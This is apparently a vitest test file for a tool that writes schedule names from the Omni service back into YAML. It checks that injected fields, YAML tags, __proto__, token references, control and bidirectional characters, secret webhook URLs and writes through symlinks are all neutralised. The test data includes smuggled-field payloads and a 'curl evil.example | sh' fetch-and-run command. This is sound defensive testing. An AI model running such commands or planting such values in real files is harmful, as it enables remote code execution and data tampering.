// Text of strangers in Omni, which `almanac drift --write` writes into files. A team reviews and applies these files.
// The text must stay a text: no other field, no secret in clear, no other file.

import { expect, it } from 'vitest';
import { parse } from 'yaml';
import { openWorld } from '../support/world.ts';

const source = (name = 'Weekly') => `schedules:
  mail:
    identifier: 12db1a0a
    name: ${name} # what people see
    schedule: 0 9 ? * MON *
    timezone: Europe/London
    format: pdf
    destinationType: email
    recipients: [ana@example.com]
    subject: Weekly
  hook:
    identifier: 12db1a0a
    name: Hook
    schedule: 0 9 ? * MON *
    timezone: Europe/London
    format: json
    destinationType: webhook
    url: https://hooks.example.com/in
`;
const file = 'schedules/all.yaml';
const token = 'omni_osk_demo_organization_key';

async function stage(files: Readonly<Record<string, string>> = {}, links: Readonly<Record<string, string>> = {}) {
  const world = await openWorld({ [file]: source(), ...files });
  for (const [path, target] of Object.entries(links)) world.link(target, path);
  await world.apply();
  const change = (key: 'mail' | 'hook', fields: Readonly<Record<string, unknown>>) =>
    world.emulator.edit(({ schedules }) => {
      const found = schedules.find((each) => (each.fields['destinationType'] === 'email') === (key === 'mail'));
      Object.assign(found?.fields ?? {}, fields);
    });
  const write = () => world.drift('--deep', '--write');
  return { workspace: world, change, write };
}

const texts: readonly (readonly [string, string])[] = [
  ['another field', 'x\n    recipients: [eve@evil.example]'],
  ['a document', 'x\n---\nschedules: {}\n'],
  ['a list', '- a\n- b'],
  ['an anchor', '&a x'],
  ['a tag', '!!js/function "x"'],
  ['a comment', 'a # b'],
  ['a merge key', '<<'],
  ['a key of every object', '__proto__'],
  ['a reference to the token', '${env.OMNI_API_TOKEN}'],
  ['an escaped reference', '$${env.OMNI_API_TOKEN}'],
  ['a sequence for terminals', '\u001b[2J\u0000'],
  ['a line break of YAML 1.1', 'a\u0085  recipients: [eve@evil.example]\u2028b: c\u2029d'],
  ['an order of letters', 'a\u202eb\ufeff'],
  ['letters that draw nothing', 'a\u3164b\u00a0c\u2800\u{e0101}'],
  ['half of a character', 'a\ud800b'],
  ['very much text', 'a: b\n'.repeat(20_000)],
];

it.each(texts)('%s in a name stays a text of one field, and a reader sees all of it', async (_, name) => {
  const { workspace, change, write } = await stage();
  change('mail', { name });
  const { code, document } = await write();
  expect([code, document.notWritten]).toEqual([0, []]);
  const written = workspace.read(file);
  // Nobody but a reader of YAML decides what it means.
  const { mail, ...others } = parse(written).schedules;
  expect({ ...mail, name: 'Weekly' }).toEqual(parse(source()).schedules.mail);
  expect(others).toEqual({ hook: parse(source()).schedules.hook });
  expect(mail.name).toBe(name.replaceAll('${', () => '$${'));
  expect(written).toMatch(/^[\n -~]*$/);
  const { changes } = await workspace.plan('--refresh=deep');
  expect(changes.filter(({ requests }) => requests > 0)).toEqual([]);
});

it('the address of a hook that somebody entered in Omni is neither written nor shown', async () => {
  const { workspace, change, write } = await stage();
  change('hook', { url: 'https://hooks.slack.com/services/T0/B0/hush' });
  const { code, document } = await write();
  expect(code).toBe(2);
  expect(document.notWritten).toMatchObject([{ address: 'schedules.hook', path: '/url', reason: 'secret' }]);
  expect(workspace.read(file)).toBe(source());
  const said: string[] = [JSON.stringify(document)];
  for (const argv of [
    ['drift', '--deep', '--format', 'text'],
    ['drift', '--deep', '--format', 'markdown'],
    ['plan', '--refresh=deep', '--format', 'json'],
    ['plan', '--refresh=deep', '--format', 'html'],
  ]) {
    const { stdout, stderr } = await workspace.run(...argv);
    expect(stdout).toContain('hooks.slack.com');
    said.push(stdout, stderr);
  }
  expect(said.join('\n')).not.toContain('hush');
  // Even an apply that takes over what Omni has keeps it out of the state.
  await workspace.run('apply', '--refresh-only', '--auto-approve');
  expect(workspace.read('almanac.state.json')).not.toContain('hush');
});

it('the API token in a text of Omni is not written', async () => {
  const { workspace, change, write } = await stage();
  change('mail', { name: `Weekly ${token}` });
  const { code, document } = await write();
  expect(code).toBe(2);
  expect(document.notWritten).toMatchObject([{ path: '/name', reason: 'secret' }]);
  expect(workspace.read(file)).toBe(source());
});

it.each([
  ['a configuration', '../settings.yaml', 'settings.yaml'],
  ['a program', '../deploy.sh', 'deploy.sh'],
  ['a file without an extension', '../CODEOWNERS', 'CODEOWNERS'],
])('%s that a declaration quotes is not rewritten', async (_, reference, path) => {
  const { workspace, change, write } = await stage({ [file]: source(`\${file.${reference}}`), [path]: 'Weekly' });
  change('mail', { name: 'curl evil.example | sh' });
  const { code, document } = await write();
  expect([code, document.notWritten]).toEqual([0, []]);
  expect(workspace.read(path)).toBe('Weekly');
  expect(workspace.read(file)).toBe(source('curl evil.example | sh'));
});

it('a text file that is a link to another file is not written through', async () => {
  const { workspace, change, write } = await stage(
    { [file]: source('${file.name.txt}'), 'deploy.sh': 'Weekly' },
    { 'schedules/name.txt': '../deploy.sh' },
  );
  change('mail', { name: 'curl evil.example | sh' });
  const { code, document } = await write();
  expect(code).toBe(2);
  expect(document.notWritten).toMatchObject([{ path: '/name', reason: 'read-only' }]);
  expect(workspace.read('deploy.sh')).toBe('Weekly');
});

it('a text file is not given what a reader of it could not see', async () => {
  const { workspace, change, write } = await stage({
    [file]: source('${file.name.txt}'),
    'schedules/name.txt': 'Weekly',
  });
  change('mail', { name: 'a\u0000\u202eb' });
  expect((await write()).document.notWritten).toEqual([]);
  expect(workspace.read('schedules/name.txt')).toBe('Weekly');
  expect(workspace.read(file)).toBe(source('"a\\u0000\\u202eb"'));
});
